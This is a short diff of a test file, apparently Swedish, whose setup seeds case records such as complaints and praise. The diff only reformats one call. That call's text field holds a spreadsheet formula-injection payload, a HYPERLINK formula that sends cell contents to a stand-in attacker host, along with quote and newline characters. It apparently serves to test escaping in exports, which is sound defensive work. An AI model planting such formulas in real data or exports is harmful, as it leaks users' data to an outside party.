@@ -28,7 +28,12 @@ beforeAll(async () => {
   await arende("KLAGOMAL", "AVSLUTAD", new Date(bas), "Skolgården, avslutad");
   await arende("FRAGA", "MOTTAGEN", new Date(bas), "Skolgården, en fråga");
   await arende("KLAGOMAL", "MOTTAGEN", new Date(bas), "Matsalen");
-  await arende("BEROM", "BESVARAD", new Date(bas + 3_600_000), '=HYPERLINK("http://angripare.example/?"&A1;"Klicka")\nrad två; med "citat"');
+  await arende(
+    "BEROM",
+    "BESVARAD",
+    new Date(bas + 3_600_000),
+    '=HYPERLINK("http://angripare.example/?"&A1;"Klicka")\nrad två; med "citat"',
+  );
 });
 afterAll(() => drop());
 
